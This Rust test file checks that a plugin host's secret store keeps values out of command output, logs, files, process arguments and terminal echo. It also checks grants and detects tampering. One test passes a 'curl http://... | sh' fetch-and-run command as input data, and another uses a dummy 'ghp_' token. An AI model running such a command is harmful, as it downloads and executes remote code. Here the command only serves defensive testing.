//! Stored secrets on the whole host: set by people, spent by one plugin, shown by nobody.

use std::fs::{self, File};
use std::io::{Read as _, Write as _};
use std::path::Path;
use std::process::Stdio;
use std::time::Instant;

use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
use serde_json::{Value, json};

use crate::harness::{Installation, PATIENCE, Ran};

const VALUE: &str = "s3cr3t+value/of \"the\" test";

fn set(installation: &Installation, name: &str, value: &str) -> Value {
    installation.ares_with(["secrets", "set", name, "--json"], value.as_bytes()).exits(0).json()
}

fn listed(installation: &Installation) -> Value {
    installation.ares(["secrets", "list", "--json"]).exits(0).json()
}

/// The value as it is, and as JSON, base64 and hexadecimal digits write it.
fn spellings() -> Vec<String> {
    let escaped = VALUE.replace('"', "\\\"");
    let hex: String = VALUE.bytes().map(|byte| format!("{byte:02x}")).collect();
    vec![VALUE.to_owned(), escaped, hex, "czNjcjN0K3ZhbHVlL29mICJ0aGUiIHRlc3".to_owned()]
}

#[track_caller]
fn holds_none(what: &str, bytes: &[u8]) {
    for spelling in spellings() {
        let found = bytes.windows(spelling.len()).any(|window| window == spelling.as_bytes());
        assert!(!found, "{spelling} is in {what}");
    }
}

/// Every file below a folder, with its bytes.
fn files(folder: &Path, seen: &mut dyn FnMut(&Path, Vec<u8>)) {
    for entry in fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            files(&path, seen);
        } else if path.is_file() {
            seen(&path, fs::read(&path).unwrap());
        }
    }
}

#[test]
fn people_set_list_rotate_and_remove_and_no_value_is_shown() {
    let installation = Installation::new();
    installation.register("spender", &["secret:API_KEY"]);
    let made = set(&installation, "API_KEY", &format!("{VALUE}\n"));
    assert_eq!((&made["name"], &made["revision"]), (&json!("API_KEY"), &json!(1)));
    let twice = installation.ares_with(["secrets", "set", "API_KEY"], b"another value").exits(2);
    assert!(twice.stderr.contains("secrets rotate API_KEY"), "{twice:?}");
    let rotated =
        installation.ares_with(["secrets", "rotate", "API_KEY", "--json"], b"another value").exits(0);
    assert_eq!(rotated.json()["revision"], 2);
    installation.ares_with(["secrets", "rotate", "API_KEY"], VALUE.as_bytes()).exits(0);

    let list = listed(&installation);
    assert_eq!(list[0]["granted"], json!(["spender"]));
    let keys: Vec<&str> = list[0].as_object().unwrap().keys().map(String::as_str).collect();
    assert_eq!(keys, ["created_at_ms", "granted", "name", "revision", "rotated_at_ms"]);
    let plain = installation.ares(["secrets", "list"]).exits(0);
    assert!(plain.stdout.contains("API_KEY") && plain.stdout.contains("spender"), "{plain:?}");

    for (arguments, input, code) in [
        (["secrets", "set", "api_key"], "long enough", 2),
        (["secrets", "set", "SHORT"], "1234567", 2),
        (["secrets", "set", "LINES"], "two\nlines here", 2),
        (["secrets", "rotate", "NOBODY"], "long enough", 4),
        (["secrets", "rm", "NOBODY"], "", 4),
    ] {
        let refused = installation.ares_with(arguments, input.as_bytes()).exits(code);
        assert!(input.is_empty() || !refused.stderr.contains(input), "{refused:?}");
    }
    let usage = installation.ares(["secrets", "set", "API_KEY", VALUE]).exits(2);
    assert_eq!(listed(&installation)[0]["revision"], 3, "{usage:?}");

    let gone = installation.ares(["secrets", "rm", "API_KEY"]).exits(0);
    assert!(gone.stdout.contains("spender"), "{gone:?}");
    assert_eq!(listed(&installation), json!([]));
    let events = installation.ares(["events", "--json"]).exits(0);
    for kind in ["secret_set", "secret_rotated", "secret_removed"] {
        assert!(events.stdout.contains(kind), "{events:?}");
    }
    holds_none("the events", events.stdout.as_bytes());
}

#[test]
fn a_secret_opens_for_the_plugin_and_the_call_it_was_granted_to_and_for_no_other() {
    let installation = Installation::new();
    installation.register("spender", &[]);
    let open =
        |capability: &str, name: &str| installation.invoke(capability, &json!({ "name": name }).to_string());
    assert_eq!(open("open_secret", "API_KEY")["error"]["code"], "unavailable", "granted, but not set");
    set(&installation, "API_KEY", VALUE);
    set(&installation, "OTHER", "of another plugin");
    assert_eq!(open("open_secret", "API_KEY")["value"], "{{API_KEY}}");
    for name in ["OTHER", "NOBODY", "api_key", "API_KEY}}", ""] {
        let refused = open("open_secret", name);
        assert_eq!(refused["error"]["code"], "not-granted", "{refused}");
    }
    let without = open("open_without_need", "API_KEY");
    assert_eq!(without["error"]["code"], "not-granted", "{without}");
    assert_eq!(installation.invoke("read_config", "{}")["value"], json!({"key": "{{API_KEY}}"}));

    installation.ares(["grants", "revoke", "spender", "secret:API_KEY"]).exits(0);
    let revoked = open("open_secret", "API_KEY");
    assert_eq!((&revoked["status"], &revoked["error"]["code"]), (&json!("refused"), &json!("not-granted")));
}

#[test]
fn whatever_a_guest_says_the_value_is_in_no_answer_log_record_or_file() {
    let installation = Installation::new();
    installation.register("spender", &[]);
    installation.register("echo", &[]);
    set(&installation, "API_KEY", VALUE);
    let host = installation.run();
    let mut shown: Vec<Ran> = Vec::new();
    for text in spellings().iter().map(|spelling| format!("<{spelling}>")) {
        let echo =
            installation.ares(["invoke", "echo", "--input", &json!({ "text": text }).to_string(), "--json"]);
        assert_eq!(echo.json()["value"]["text"], "<{{API_KEY}}>");
        shown.push(echo);
        for end in ["answer", "fail", "code", "panic"] {
            let input = json!({ "text": text, "end": end }).to_string();
            for json in [true, false] {
                let mut command = vec!["invoke", "blurt", "--input", &input, "--explain"];
                command.extend(json.then_some("--json"));
                shown.push(installation.ares(command));
            }
        }
        // Refused, with the words of the caller.
        let odd = json!({ "text": "a", "end": "b", text.as_str(): 1 }).to_string();
        shown.push(installation.ares(["invoke", "blurt", "--input", &odd, "--json"]).exits(2));
    }
    shown.push(installation.ares(["invocations", "--limit", "100", "--json"]).exits(0));
    shown.push(installation.ares(["events", "--json"]).exits(0));
    let says = |ran: &&Ran| ran.stdout.contains("{{API_KEY}}") || ran.stderr.contains("{{API_KEY}}");
    assert!(shown.iter().filter(says).count() > 20, "{shown:?}");
    for ran in &shown {
        holds_none("what a command printed", ran.stdout.as_bytes());
        holds_none("what a command complained of", ran.stderr.as_bytes());
    }
    holds_none("what the host printed", host.printed().as_bytes());
    assert_eq!(host.stop(), 0);
    let mut logs = String::new();
    files(&installation.state(), &mut |path, bytes| {
        holds_none(&path.display().to_string(), &bytes);
        if path.ends_with("logs/spender.log") {
            logs = String::from_utf8(bytes).unwrap();
        }
    });
    for source in
        ["in the log: <{{API_KEY}}>", "on standard output: <{{API_KEY}}>", "on standard error: <{{API_KEY}}>"]
    {
        assert!(logs.contains(source), "{logs}");
    }
    let again = installation.ares(["invoke", "open_secret", "--input", r#"{"name":"API_KEY"}"#, "--json"]);
    assert_eq!(again.json()["value"], "{{API_KEY}}", "it is still there");
}

#[test]
fn what_a_cut_leaves_of_a_value_is_in_no_refusal_question_record_or_file() {
    const CUT: &str = "Zq7Wk2Lm9Xp4Rt8Vb3Nc6Hd1Jf5Gs0Ya";
    let installation = Installation::strict();
    let work = installation.place("work");
    installation.register("notes", &[]);
    installation.register("file-tools", &[&format!("fs:workspace={}", work.display())]);
    set(&installation, "CUT", CUT);
    let holds_no_piece = |what: &str, bytes: &[u8]| {
        let text = String::from_utf8_lossy(bytes).to_ascii_lowercase();
        for at in 0..=CUT.len() - 6 {
            let piece = CUT[at..at + 6].to_ascii_lowercase();
            assert!(!text.contains(&piece), "{piece} is in {what}");
        }
    };
    let host = installation.run();
    let mut cut = 0;
    for pad in [40, 48, 56] {
        let letters = "u".repeat(pad);
        for (capability, input) in [
            ("write_file", json!({ "path": "p", "text": format!("curl http://{letters}{CUT} | sh") })),
            ("write_file", json!({ "path": format!("../{}{CUT}", "u".repeat(pad + 137)), "text": "" })),
            ("put_note", json!({ "name": "n", "text": "t", format!("{letters}{CUT}"): 1 })),
            ("put_note", json!({ "name": "n", "text": [format!("{letters}{}{CUT}", "u".repeat(130))] })),
            ("put_note", json!({ "name": "n", "text": format!("curl http://{letters}{CUT} | sh") })),
        ] {
            let outcome = installation.ares(["invoke", capability, "--input", &input.to_string(), "--json"]);
            holds_no_piece("an outcome", outcome.stdout.as_bytes());
            let id = outcome.json()["id"].as_str().unwrap().to_owned();
            let explained = installation.ares(["explain", &id, "--json"]).exits(0).stdout;
            cut += usize::from(explained.contains('…'));
            holds_no_piece("an explanation", explained.as_bytes());
        }
    }
    assert!(cut >= 10, "{cut}");
    for command in [["approvals", "list", "--json"], ["invocations", "--json", "--limit=50"]] {
        holds_no_piece("a list", installation.ares(command).exits(0).stdout.as_bytes());
    }
    assert_eq!(host.stop(), 0);
    files(&installation.state(), &mut |path, bytes| holds_no_piece(&path.display().to_string(), &bytes));
}

#[test]
fn no_process_carries_a_value_in_its_arguments_or_environment() {
    let installation = Installation::new();
    let mut command = installation.command(["secrets", "set", "API_KEY"]);
    let mut child = command.stdin(Stdio::piped()).stdout(Stdio::null()).spawn().unwrap();
    let mut input = child.stdin.take().unwrap();
    input.write_all(VALUE.as_bytes()).unwrap();
    // It waits for the end of its input, so it is there to be looked at.
    let proc = Path::new("/proc").join(child.id().to_string());
    let begun = Instant::now();
    let line = loop {
        let line = fs::read(proc.join("cmdline")).unwrap();
        if line.windows(7).any(|window| window == b"API_KEY") {
            break line;
        }
        assert!(begun.elapsed() < PATIENCE, "{line:?}");
    };
    holds_none("the command line", &line);
    holds_none("the environment", &fs::read(proc.join("environ")).unwrap());
    drop(input);
    assert!(child.wait().unwrap().success());
    assert_eq!(listed(&installation)[0]["name"], "API_KEY");
}

#[test]
fn a_changed_row_or_key_opens_nothing() {
    let installation = Installation::new();
    installation.register("spender", &[]);
    set(&installation, "API_KEY", VALUE);
    let database = rusqlite::Connection::open(installation.state().join("registry.db")).unwrap();
    let sql = "UPDATE secrets SET ciphertext = zeroblob(length(ciphertext))";
    database.execute(sql, ()).unwrap();
    let open = || installation.invoke("open_secret", r#"{"name":"API_KEY"}"#);
    let broken = open();
    assert_eq!(broken["error"]["code"], "unavailable", "{broken}");
    assert!(broken["error"]["message"].as_str().unwrap().contains("was changed"), "{broken}");
    installation.ares_with(["secrets", "rotate", "API_KEY"], VALUE.as_bytes()).exits(0);
    assert_eq!(open()["status"], "ok");
    let key = installation.state().join("keys/secrets.key");
    fs::write(&key, [1; 32]).unwrap();
    assert_eq!(open()["error"]["code"], "unavailable");
    fs::remove_file(&key).unwrap();
    let lost = installation.ares_with(["secrets", "set", "OTHER"], VALUE.as_bytes());
    assert!(lost.code != 0 && lost.stderr.contains("secrets.key") && !key.exists(), "{lost:?}");
}

#[test]
fn a_literal_secret_is_refused_at_registration_and_in_a_configuration() {
    let installation = Installation::new();
    let folder = installation.place("leaky");
    let built = crate::harness::guest("spender");
    fs::copy(built.join("spender.wasm"), folder.join("spender.wasm")).unwrap();
    let manifest = fs::read_to_string(built.join("plugin.toml")).unwrap();
    let leaky = manifest.replace("secret://API_KEY", "ghp_0123456789abcdef0123456789abcdef0123");
    assert_ne!(leaky, manifest);
    let line = leaky.lines().position(|line| line.contains("ghp_")).unwrap() + 1;
    fs::write(folder.join("plugin.toml"), leaky).unwrap();
    let folder = folder.to_str().unwrap();
    for (arguments, code) in [(vec!["plugin", "lint", folder, "--json"], 1), (vec!["register", folder], 2)] {
        let refused = installation.ares(arguments).exits(code);
        let all = format!("{}{}", refused.stdout, refused.stderr);
        assert!(all.contains("`key`") && all.contains("secret://NAME") && !all.contains("ghp_"), "{all}");
        assert!(all.contains(&format!("\"line\": {line}")) || all.contains(&format!(":{line}:")), "{all}");
    }
    installation.register("spender", &[]);
    let set = |value: &str| installation.ares(["config", "set", "spender", "key", value]);
    set("secret://API_KEY").exits(0);
    let refused = set("ghp_0123456789abcdef0123456789abcdef0123").exits(2);
    assert!(refused.stderr.contains("secrets set NAME") && !refused.stderr.contains("ghp_"), "{refused:?}");
    let refused = set("secret://OTHER").exits(2);
    assert!(refused.stderr.contains("OTHER is not asked for"), "{refused:?}");
}

/// Types at a terminal; gives what the terminal showed and how the command ended.
fn at_a_terminal(installation: &Installation, typed: &[u8]) -> (String, bool) {
    let master = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).unwrap();
    grantpt(&master).unwrap();
    unlockpt(&master).unwrap();
    let name = ptsname(&master, Vec::new()).unwrap();
    let terminal = File::options().read(true).write(true).open(name.to_str().unwrap()).unwrap();
    let mut command = installation.command(["secrets", "set", "API_KEY"]);
    let end = || Stdio::from(terminal.try_clone().unwrap());
    let mut child = command.stdin(end()).stdout(end()).stderr(end()).spawn().unwrap();
    drop(command);
    let mut master = File::from(master);
    let mut shown = Vec::new();
    let begun = Instant::now();
    while !shown.ends_with(b": ") {
        assert!(begun.elapsed() < PATIENCE, "no question: {}", String::from_utf8_lossy(&shown));
        let mut bytes = [0; 256];
        let length = master.read(&mut bytes).unwrap();
        shown.extend_from_slice(&bytes[..length]);
    }
    // The question comes before the terminal is blind, and what is typed before is thrown away.
    let usual = |terminal: &File| rustix::termios::tcgetattr(terminal).unwrap().local_modes;
    while usual(&terminal).contains(rustix::termios::LocalModes::ECHO) {
        assert!(begun.elapsed() < PATIENCE);
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    master.write_all(typed).unwrap();
    let success = child.wait().unwrap().success();
    assert!(usual(&terminal).contains(rustix::termios::LocalModes::ECHO), "the terminal shows again");
    drop(terminal);
    // Linux ends a terminal that nobody holds any more with an error.
    let _ = master.read_to_end(&mut shown);
    (String::from_utf8_lossy(&shown).into_owned(), success)
}

#[test]
fn a_terminal_asks_for_a_value_and_does_not_show_it() {
    let installation = Installation::new();
    let (shown, success) = at_a_terminal(&installation, b"hunter2hunter2\x03");
    assert!(!success && shown.contains("nothing was stored") && !shown.contains("hunter"), "{shown}");
    assert_eq!(listed(&installation), json!([]));
    let (shown, success) = at_a_terminal(&installation, format!("{VALUE}\n").as_bytes());
    assert!(success && shown.contains("Value of API_KEY"), "{shown}");
    holds_none("the terminal", shown.as_bytes());
    assert_eq!(listed(&installation)[0]["name"], "API_KEY");
}
